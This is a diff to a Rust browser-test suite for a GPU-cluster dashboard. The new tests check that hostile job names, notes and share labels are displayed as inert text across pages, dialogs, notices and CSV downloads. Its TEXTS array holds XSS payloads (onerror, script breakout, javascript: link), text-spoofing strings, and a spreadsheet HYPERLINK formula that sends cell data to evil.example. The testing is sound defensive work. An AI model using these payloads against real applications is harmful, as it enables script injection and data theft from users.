@@ -8,7 +8,7 @@ use nodeglass_protocol::{JobId, NodeName};
 use nodeglass_tests::TIMEOUT;
 use nodeglass_tests::browser::Browser;
 use nodeglass_tests::client::{Client, Known};
-use nodeglass_tests::relay::TestRelay;
+use nodeglass_tests::relay::{Link, TestRelay};
 use serde_json::Value;
 use std::fmt::Write as _;
 use std::path::Path;
@@ -33,6 +33,9 @@ const HARM: &str = r"(() => {
         }
     }
     if (document.documentElement.scrollWidth > innerWidth) harm.push(`${document.documentElement.scrollWidth} px wide`);
+    for (const sheet of document.querySelectorAll('dialog[open]')) {
+        if (sheet.scrollWidth > sheet.clientWidth + 1) harm.push(`a sheet of ${sheet.scrollWidth} px in ${sheet.clientWidth}`);
+    }
     if (document.querySelector('meta[http-equiv=refresh]')) harm.push('a refresh');
     if (hidden.test(document.title) || document.title.includes('\n')) harm.push('the title ' + JSON.stringify(document.title));
     if (hidden.test(document.body.innerText)) harm.push('hidden characters');
@@ -210,6 +213,161 @@ async fn t13_t14_a_hostile_cluster_is_shown_as_text() -> Result<()> {
         unharmed(&browser, path).await?;
     }
     check_output_is_plain(&relay)
+}
+
+/// The windows of a desktop and of a phone.
+const WINDOWS: [(u32, u32); 2] = [(1440, 900), (390, 844)];
+const CONTROL: char = '\u{E009}';
+const ESCAPE: char = '\u{E00C}';
+/// Hostile notes and labels of shares: one of each kind.
+const TEXTS: [&str; 6] = [
+    "<img src=x onerror=window.pwned=1>",
+    "\"><script>window.pwned=1</script>",
+    "safe\u{202e}gpj.exe\u{1b}[2J\u{9b}31m\u{7}pwned",
+    "z\u{300}\u{301}\u{302}\u{303}\u{304}\u{305}\u{306}\u{307}\u{308}\u{309}pwned",
+    "=HYPERLINK(\"http://evil.example?x=\"&A1,\"pwned\")",
+    "[pwned](javascript:window.pwned=1)",
+];
+/// The job whose name is the first of [`TEXTS`].
+fn job_of_an_image() -> Result<u32> {
+    let at = hostile::NAMES.iter().position(|name| *name == TEXTS[0].as_bytes());
+    Ok(FIRST + u32::try_from(at.context("the name is among all")?)?)
+}
+
+/// A relay of the hostile cluster with notes of one of its jobs, and the link of a share of everything.
+fn shared(folder: &Path) -> Result<(TestRelay, Link)> {
+    let (relay, _) = evil_relay(folder)?;
+    let job = job_of_an_image()?.to_string();
+    let show = ["--everything", "--show", "arguments,paths,users,logs", "--label"];
+    let mut link = None;
+    for text in TEXTS {
+        relay.run(&["note", "--job", &job, text])?;
+        let output = relay.run(&[&["share", "create"], &show[..], &[text]].concat())?;
+        link = output.lines().find_map(Link::find).or(link);
+    }
+    Ok((relay, link.context("a link")?))
+}
+
+/// Opens a path and waits until the page shows a hostile text.
+async fn visit(browser: &Browser, relay: &TestRelay, path: &str) -> Result<()> {
+    browser.open(&relay.link().path(path)).await?;
+    let shown = "/pwned/.test(document.querySelector('.main')?.innerText)";
+    browser.until(path, shown).await?;
+    unharmed(browser, path).await
+}
+
+/// Waits until the topmost sheet shows a hostile text, checks it and closes it.
+async fn check_sheet(browser: &Browser, what: &str) -> Result<()> {
+    let sheet = "[...document.querySelectorAll('dialog[open]')].at(-1)";
+    browser
+        .until(what, &format!("/pwned/.test({sheet}?.innerText + {sheet}?.querySelector('input')?.value)"))
+        .await?;
+    unharmed(browser, what).await?;
+    browser.press(ESCAPE).await?;
+    browser.until("no sheet", "!document.querySelector('dialog[open]')").await
+}
+
+/// Clicks the first element of a selector whose text matches.
+async fn click_text(browser: &Browser, css: &str, words: &str) -> Result<()> {
+    let found = format!("[...document.querySelectorAll({css:?})].find(one => /{words}/.test(one.innerText))");
+    browser.until(words, &found).await?;
+    browser.eval(&format!("({found}.click(), true)")).await.map(drop)
+}
+
+/// The sheets that every viewer can open: of a GPU, of a process, and the palette.
+async fn check_shared_sheets(browser: &Browser, relay: &TestRelay) -> Result<()> {
+    let job = job_of_an_image()?;
+    let gpus: Vec<Value> = serde_json::from_str(&relay.run(&["list", "--json"])?)?;
+    // As in the scenario: eight jobs on each node, with a GPU each.
+    let (node, at) = (format!("evil-{:02}", (job - FIRST) / 8 + 1), ((job - FIRST) % 8) as usize);
+    let gpu = gpus.iter().filter(|gpu| gpu["node"] == *node).nth(at).context("a GPU of the job")?;
+    let uuid = gpu["uuid"].as_str().context("a GPU")?;
+    browser.open(&relay.link().path(&format!("/node/{node}?gpu={uuid}"))).await?;
+    check_sheet(browser, "the sheet of a GPU").await?;
+    browser.open(&relay.link().path(&format!("/job/{job}/processes"))).await?;
+    let row = "document.querySelector('.grid tbody tr[aria-rowindex]')";
+    browser.until("a process", row).await?;
+    browser.eval(&format!("({row}.click(), true)")).await?;
+    check_sheet(browser, "the sheet of a process").await?;
+    browser.press_with(CONTROL, 'k').await?;
+    browser.until("the palette", "document.activeElement.matches('.palette input')").await?;
+    browser.write("pwned").await?;
+    browser.until("a match", "document.querySelector('.palette [aria-selected=true]')").await?;
+    check_sheet(browser, "the palette").await
+}
+
+#[tokio::test]
+async fn t13_t14_a_guest_sees_hostile_names_notes_and_logs_as_text() -> Result<()> {
+    let Some(browser) = Browser::start().await? else { return Ok(()) };
+    let folder = tempfile::tempdir()?;
+    let (relay, link) = shared(folder.path())?;
+    let job = job_of_an_image()?;
+    for (width, height) in WINDOWS {
+        browser.resize(width, height).await?;
+        browser.open(&link.url).await?;
+        browser.until("the banner of a guest", "document.querySelector('.guest')").await?;
+        for path in ["/".to_owned(), "/node/evil-04".to_owned()] {
+            visit(&browser, &relay, &path).await?;
+        }
+        for tab in ["", "/processes", "/logs", "/report", "/about"] {
+            visit(&browser, &relay, &format!("/job/{job}{tab}")).await?;
+        }
+        check_shared_sheets(&browser, &relay).await?;
+    }
+    check_output_is_plain(&relay)
+}
+
+#[tokio::test]
+async fn t13_t15_sheets_notices_and_downloads_hold_hostile_text_as_text() -> Result<()> {
+    let Some(browser) = Browser::start().await? else { return Ok(()) };
+    let folder = tempfile::tempdir()?;
+    let (relay, _) = shared(folder.path())?;
+    let job = job_of_an_image()?;
+    browser.open(&relay.link().url).await?;
+    for (width, height) in WINDOWS {
+        browser.resize(width, height).await?;
+        check_shared_sheets(&browser, &relay).await?;
+        for path in ["/audit", "/usage"] {
+            visit(&browser, &relay, path).await?;
+        }
+        visit(&browser, &relay, &format!("/job/{job}")).await?;
+        browser.press('s').await?;
+        check_sheet(&browser, "the list of shares").await?;
+        // The question before a signal, and the notice after it.
+        browser.open(&relay.link().path(&format!("/job/{job}/processes"))).await?;
+        let row = "document.querySelector('.grid tbody tr[aria-rowindex]')";
+        browser.until("a process", row).await?;
+        browser.eval(&format!("({row}.click(), true)")).await?;
+        click_text(&browser, "dialog[open] button", "^Interrupt").await?;
+        browser.until("the question", "/pwned/.test(document.querySelector('.ask')?.innerText)").await?;
+        unharmed(&browser, "the question before a signal").await?;
+        click_text(&browser, ".ask button", "^Send").await?;
+        browser.until("the notice", "document.querySelector('.toasts p')").await?;
+        unharmed(&browser, "the notice after a signal").await?;
+    }
+    check_download(&browser, &relay).await?;
+    check_output_is_plain(&relay)
+}
+
+/// What a spreadsheet would compute, in the cells of the downloaded list of jobs.
+const FORMULAS: &str = r#"[...window.saved.matchAll(/("(?:[^"]|"")*"|[^,\n]*)(?:,|\r?\n|$)/g)].map(cell => cell[1])
+    .filter(cell => /^"?\s*[=+@\uff0b\uff1d\uff20]/.test(cell) || /^"?\s*[-\uff0d](?![\d.]+"?$)/.test(cell)).join(' | ')"#;
+
+async fn check_download(browser: &Browser, relay: &TestRelay) -> Result<()> {
+    browser.resize(1440, 900).await?;
+    visit(browser, relay, "/").await?;
+    let keep = "(URL.createObjectURL = (made => blob => { blob.text().then(text => window.saved = text); \
+        return made.call(URL, blob) })(URL.createObjectURL), true)";
+    browser.eval(keep).await?;
+    click_text(browser, ".main .menu > .btn", "^Copy").await?;
+    click_text(browser, ".menu__item", "^Download CSV").await?;
+    browser.until("the file", "window.saved?.includes('pwned')").await?;
+    let formulas = browser.eval(FORMULAS).await?;
+    ensure!(formulas == "", "formulas in {formulas}");
+    let saved = browser.eval("window.saved").await?;
+    let saved = saved.as_str().context("a text")?;
+    ensure!(saved.lines().all(|line| !line.contains(hostile::is_harmful)), "{saved:?}");
+    unharmed(browser, "the download").await
 }
 
 /// Everything on the page is text, and the browser reports no error.
